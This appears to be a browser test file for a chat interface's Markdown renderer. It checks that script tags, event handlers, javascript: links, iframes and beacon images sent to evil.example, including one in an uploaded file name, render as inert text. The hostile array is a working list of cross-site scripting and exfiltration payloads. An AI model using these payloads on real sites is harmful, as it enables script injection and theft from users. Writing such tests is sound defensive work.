/** What a model writes stays text: it runs nothing, and asks for nothing. */
import { expect, test } from 'vitest';
import { describeWith } from '../support/programs.ts';
import { openPage, programs, sharedBrowser, sharedService, textOf } from './support.ts';

/** The sandbox echoes it. Whatever runs sets `hacked`; whatever is fetched is foreign, or a request to the service. */
const hostile = [
  '<script>hacked = 1</script>',
  '<img src=x onerror="hacked = 2">',
  '<svg onload="hacked = 3"></svg>',
  '<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>',
  '<a href="javascript:hacked=5">raw</a>',
  '[a](javascript:hacked=6) [b](JaVaScRiPt:hacked=7) [c](data:text/html,<script>hacked=8</script>)',
  '[d](vbscript:hacked=9) [e](&#106;avascript:hacked=10) [f]( javascript:hacked=11)',
  '![image](https://evil.example/?secret) ![here](/healthz?secret)',
  '[![both](https://evil.example/both.png)](javascript:hacked=12)',
  '<https://evil.example/auto> <style>body { background: url(https://evil.example/css) }</style>',
  '[good](https://good.example/page) [mail](mailto:someone@good.example)',
  '`<b>code</b>`',
];

describeWith(programs, 'hostile Markdown', () => {
  const service = sharedService();
  const browser = sharedBrowser();

  test('stays text', async () => {
    const page = await openPage(browser(), service());
    const requested: string[] = [];
    await page.ready();
    page.page.on('request', (request) => {
      const { protocol, pathname } = new URL(request.url());
      if (protocol !== 'blob:') requested.push(pathname); // the silence that unlocks the player
    });
    await page.send(hostile.join('\n\n'));
    const answer = await page.answer();
    await textOf(answer.locator('.markdown')).toContain('<script>hacked = 1</script>');
    await textOf(answer.locator('.markdown')).toContain('<img src=x onerror="hacked = 2">');

    const addresses = await answer
      .locator('a')
      .evaluateAll((links: { href: string }[]) => links.map(({ href }) => href));
    expect(addresses.filter((address) => address !== '' && !/^(https|mailto):/.test(address))).toEqual([]);
    expect(addresses).toContain('https://good.example/page');
    expect(await answer.locator('a[href="https://good.example/page"]').getAttribute('rel')).toBe('noopener noreferrer');
    expect(await answer.locator('script, img, svg[onload], iframe, style, [style], [onerror], [onload]').count()).toBe(
      0,
    );

    for (const link of await answer.locator('a:not([href])').all()) await link.click({ force: true });
    expect(await page.page.evaluate('typeof hacked')).toBe('undefined');
    const icon = '/assets/icon-'; // Chromium may fetch it a second time
    expect(requested.filter((path) => !path.startsWith(icon))).toEqual(['/api/v1/chat/stream']);
  });

  test('in tool calls, reasoning, failures and the names of files stays text, too', async () => {
    const page = await openPage(browser(), service());
    const [image] = hostile.slice(1, 2);
    await page.send(`think: ${image}\ncall nothing {"text": "<img src=x onerror='hacked = 13'>"}\n${image}`);
    const answer = await page.answer();
    for (const summary of await answer.locator('summary').all()) await summary.click();
    await textOf(answer.locator('.reasoning')).toBe(image!);
    await page.button(`Edit your message “think: ${image}…”`).click();
    await page.page.context().setOffline(true);
    await page.upload(`<img src=x onerror=hacked=14>.wav`, Buffer.from('no recording'));
    await textOf(page.alert).toContain('The recording is kept: <img src=x onerror=hacked=14>.wav');
    expect(await page.page.locator('img').count()).toBe(0);
    expect(await page.page.evaluate('typeof hacked')).toBe('undefined');
  });

  test.each([
    ['3,000 quotes', `${'> '.repeat(3_000)}the end`],
    ['3,000 nested marks', `${'_*'.repeat(3_000)}the end`],
    ['10,000 columns', `${'|'.repeat(10_001)}\n|${'-|'.repeat(10_000)}\nthe end`],
  ])('of %s is shown within the bounds of the page', async (_what, markdown) => {
    const page = await openPage(browser(), service());
    await page.send(`Begin\n\n${markdown}`); // the sandbox begins with "You said: "
    const drawn = (await page.answer()).locator('.markdown');
    await textOf(drawn).toContain('the end');
    expect(await drawn.locator(`:scope${' > *'.repeat(25)}`).count()).toBe(0);
    expect(await drawn.locator('th').count()).toBeLessThanOrEqual(100);
  });
});
